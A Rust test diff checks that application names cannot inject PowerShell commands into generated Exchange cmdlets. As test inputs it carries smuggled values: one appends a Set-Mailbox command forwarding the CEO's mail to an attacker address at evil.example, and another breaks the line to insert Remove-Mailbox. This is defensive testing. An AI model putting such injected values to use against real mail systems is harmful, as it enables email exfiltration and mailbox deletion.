@@ -100,8 +100,16 @@ fn everything_that_is_made_carries_the_setup() {
 }
 
 #[test]
-fn a_description_is_one_line() {
-    let mut plan = plan();
-    plan.application.name = "a\r\nRemove-Mailbox".into();
-    assert!(!plan.group_description(SetupId(Uuid::nil())).contains('\n'));
+fn reach_r02_no_name_of_anybodys_choosing_is_in_what_is_sent() {
+    let setup = SetupId(Uuid::from_u128(77));
+    let of = |name: &str| {
+        let mut plan = plan();
+        plan.application.name = name.into();
+        plan.changes(setup)
+    };
+    let changes = of("\u{151}; Set-Mailbox ceo -ForwardingSmtpAddress x@evil.example #");
+    assert_eq!(changes, of("a\r\nRemove-Mailbox"));
+    for cmdlet in changes {
+        assert!(cmdlet.line().is_ascii(), "{}", cmdlet.line());
+    }
 }
